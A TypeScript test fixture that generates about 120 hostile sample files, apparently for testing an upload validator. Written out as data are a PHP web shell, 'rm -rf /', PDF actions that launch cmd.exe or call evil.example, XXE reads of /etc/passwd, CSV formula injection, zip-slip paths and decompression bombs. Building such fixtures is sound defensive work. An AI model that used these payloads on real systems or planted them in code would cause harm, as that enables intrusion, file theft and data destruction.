import { deflateSync, gzipSync } from 'node:zlib';
import { makeArchive, makeWordDocument } from '../make-archive';

export interface HostileFile {
  readonly what: string;
  readonly content: Buffer;
  readonly declaredType: string;
}

const SCRIPT =
  '<html><body><script>hostile=1;fetch("//evil.example")</script><hostile-x></hostile-x></body></html>';
const bytes = (hex: string) => Buffer.from(hex, 'hex');
const text = (words: string) => Buffer.from(words);
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);

function makeChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, text(type), data, bytes('00000000')]);
}

/** A PNG that declares this size; its content is a few empty rows. */
function makePng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6], 8);
  const rows = deflateSync(Buffer.alloc(1_000));
  const chunks = [makeChunk('IHDR', header), makeChunk('IDAT', rows), makeChunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([bytes('89504e470d0a1a0a'), ...chunks]);
}

/** A PNG of one pixel that every program opens. */
const PIXEL_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const PIXEL_GIF = Buffer.from('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=', 'base64');
const JPEG_START = bytes('ffd8ffe000104a46494600010100000100010000');
const HUGE_JPEG = Buffer.concat([
  JPEG_START,
  bytes('ffc00011 08 ffff ffff 03 011100 021101 031101'.replaceAll(' ', '')),
  bytes('ffd9'),
]);

const makePdf = (body: string) =>
  text(`%PDF-1.7\n1 0 obj\n<< ${body} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`);

const compound = (stream: string) =>
  Buffer.concat([
    bytes('d0cf11e0a1b11ae1'),
    Buffer.alloc(504),
    Buffer.from(stream, 'utf16le'),
    Buffer.alloc(512),
  ]);

/** Each is tried as it is, cut in half, behind a page and before a page. */
const SHORT: Readonly<Record<string, readonly [declaredType: string, content: Buffer]>> = {
  'a PDF': ['application/pdf', makePdf('/Type /Catalog')],
  'a PDF that runs a script': [
    'application/pdf',
    makePdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
  ],
  'a PDF that opens an address': [
    'application/pdf',
    makePdf('/OpenAction << /S /URI /URI (http://evil.example) >>'),
  ],
  'a PDF that starts a program': ['application/pdf', makePdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  'a Word document': ['application/zip', makeWordDocument()],
  'a Word document with macros': [
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    makeWordDocument({ name: 'word/vbaProject.bin', content: 'Attribute VB_Name' }),
  ],
  'an old Word document': ['application/msword', compound('WordDocument')],
  'an old workbook': ['application/vnd.ms-excel', compound('Workbook')],
  'a PNG': ['image/png', PIXEL_PNG],
  'a GIF': ['image/gif', PIXEL_GIF],
  'a JPEG without a picture': ['image/jpeg', Buffer.concat([JPEG_START, bytes('ffd9')])],
  'an SVG': [
    'image/svg+xml',
    text('<svg xmlns="http://www.w3.org/2000/svg" onload="hostile=1"><script>hostile=1</script></svg>'),
  ],
  'a page': ['text/html', text(SCRIPT)],
  'a page that says PDF': ['application/pdf', text(SCRIPT)],
  'a script': ['text/javascript', text('globalThis.hostile=1')],
  'XML with an entity': [
    'text/xml',
    text('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  ],
  'a program': ['application/octet-stream', Buffer.concat([text('MZ'), Buffer.alloc(200)])],
  'another program': ['application/x-elf', Buffer.concat([bytes('7f454c46'), Buffer.alloc(200)])],
  'a shell script': ['application/x-sh', text('#!/bin/sh\nrm -rf /\n')],
  'a server page': ['application/x-php', text('<?php system($_GET["c"]); ?>')],
  'a table': ['text/csv', text('=cmd|\' /C calc\'!A0,"@SUM(1)"\n')],
  'an archive': ['application/gzip', gzipSync('hello')],
  'a mail': ['message/rfc822', text(`MIME-Version: 1.0\nContent-Type: text/html\n\n${SCRIPT}`)],
};

/** Polyglot files: a picture for one parser, a page or a script for another. */
const POLYGLOTS: readonly HostileFile[] = [
  {
    what: 'a GIF that is a script',
    content: text('GIF89a/*\0\0*/=1;globalThis.hostile=1;'),
    declaredType: 'image/gif',
  },
  {
    what: 'a picture with a page behind it',
    content: Buffer.concat([PIXEL_PNG, text(SCRIPT)]),
    declaredType: 'text/html',
  },
  {
    what: 'a PDF behind a comment of a page',
    content: text(`<!--%PDF-1.7-->${SCRIPT}`),
    declaredType: 'text/html',
  },
  {
    what: 'an archive behind a PDF',
    content: Buffer.concat([makePdf('/Type /Catalog'), makeWordDocument()]),
    declaredType: 'application/pdf',
  },
  {
    what: 'a JPEG with a page in its comment',
    content: Buffer.concat([JPEG_START, bytes('fffe0060'), text(SCRIPT.slice(0, 94)), bytes('ffd9')]),
    declaredType: 'image/jpeg',
  },
];

const WORD_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

const BOMBS: readonly HostileFile[] = [
  { what: 'nothing', content: Buffer.alloc(0), declaredType: 'application/pdf' },
  { what: 'one byte', content: text('%'), declaredType: 'application/pdf' },
  { what: 'a marker alone', content: text('%PDF-'), declaredType: 'application/pdf' },
  { what: 'a PNG of 60 000 pixels each way', content: makePng(60_000, 60_000), declaredType: 'image/png' },
  { what: 'a PNG without height', content: makePng(1, 0), declaredType: 'image/png' },
  { what: 'a PNG as wide as numbers go', content: makePng(0x7fffffff, 1), declaredType: 'image/png' },
  { what: 'a JPEG of 65 535 pixels each way', content: HUGE_JPEG, declaredType: 'image/jpeg' },
  {
    what: 'a GIF of 65 535 pixels each way',
    content: Buffer.concat([text('GIF89a'), bytes('ffffffff800000ffffff000000'), PIXEL_GIF.subarray(19)]),
    declaredType: 'image/gif',
  },
  {
    what: 'a Word document that unpacks to 80 MB',
    content: makeWordDocument({ name: 'word/media/a.bin', content: zeros(80) }),
    declaredType: WORD_TYPE,
  },
  {
    what: 'a Word document that lies about its size',
    content: makeWordDocument({ name: 'word/media/a.bin', content: zeros(20), claimedSize: 9 }),
    declaredType: WORD_TYPE,
  },
  {
    what: 'a Word document of 2 000 parts',
    content: makeWordDocument(
      ...Array.from({ length: 2_000 }, (_, at) => ({ name: `word/${at}`, content: '' })),
    ),
    declaredType: WORD_TYPE,
  },
  {
    what: 'a Word document that unpacks upwards',
    content: makeWordDocument({ name: '../../../tmp/hostile', content: 'x' }),
    declaredType: WORD_TYPE,
  },
  {
    what: 'a Word document with an absolute part',
    content: makeWordDocument({ name: '/etc/cron.d/hostile', content: 'x' }),
    declaredType: WORD_TYPE,
  },
  {
    what: 'a Word document with a foreign entity',
    content: makeWordDocument({
      name: '[Content_Types].xml',
      content: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Types>&x;</Types>',
    }),
    declaredType: WORD_TYPE,
  },
  {
    what: 'an archive without a document',
    content: makeArchive([{ name: 'a.txt', content: 'x' }]),
    declaredType: WORD_TYPE,
  },
  {
    what: 'an archive of archives',
    content: makeArchive([{ name: 'b.zip', content: makeArchive([{ name: 'c', content: zeros(2) }]) }]),
    declaredType: 'application/zip',
  },
  {
    what: '6 MB that begin as a PDF',
    content: Buffer.concat([text('%PDF-1.7\n'), zeros(6)]),
    declaredType: 'application/pdf',
  },
  {
    what: '11 MB that begin as a PDF',
    content: Buffer.concat([text('%PDF-1.7\n'), zeros(11)]),
    declaredType: 'application/pdf',
  },
  {
    what: 'a PDF as large as it may be',
    content: Buffer.concat([text('%PDF-1.7\n'), zeros(5).subarray(9)]),
    declaredType: 'application/pdf',
  },
  { what: 'a sparse text', content: zeros(1), declaredType: 'text/plain' },
  {
    what: 'text in UTF-16',
    content: Buffer.from(`\ufeff${SCRIPT}`, 'utf16le'),
    declaredType: 'application/pdf',
  },
  {
    what: 'text in UTF-7',
    content: text('+ADw-script+AD4-hostile=1+ADw-/script+AD4-'),
    declaredType: 'text/html',
  },
  {
    what: 'a marker behind a byte order mark',
    content: Buffer.concat([bytes('efbbbf'), makePdf('/Type /Catalog')]),
    declaredType: 'application/pdf',
  },
];

const vary = ([what, [declaredType, content]]: [string, readonly [string, Buffer]]): HostileFile[] => [
  { what, content, declaredType },
  { what: `${what}, cut in half`, content: content.subarray(0, Math.ceil(content.length / 2)), declaredType },
  { what: `${what} with a page behind it`, content: Buffer.concat([content, text(SCRIPT)]), declaredType },
  {
    what: `${what} behind a page`,
    content: Buffer.concat([text(SCRIPT), content]),
    declaredType: 'text/html',
  },
];

/** A hundred and twenty files that no program should trust. */
export const hostileFiles: readonly HostileFile[] = [
  ...BOMBS,
  ...POLYGLOTS,
  ...Object.entries(SHORT).flatMap(vary),
].slice(0, 120);
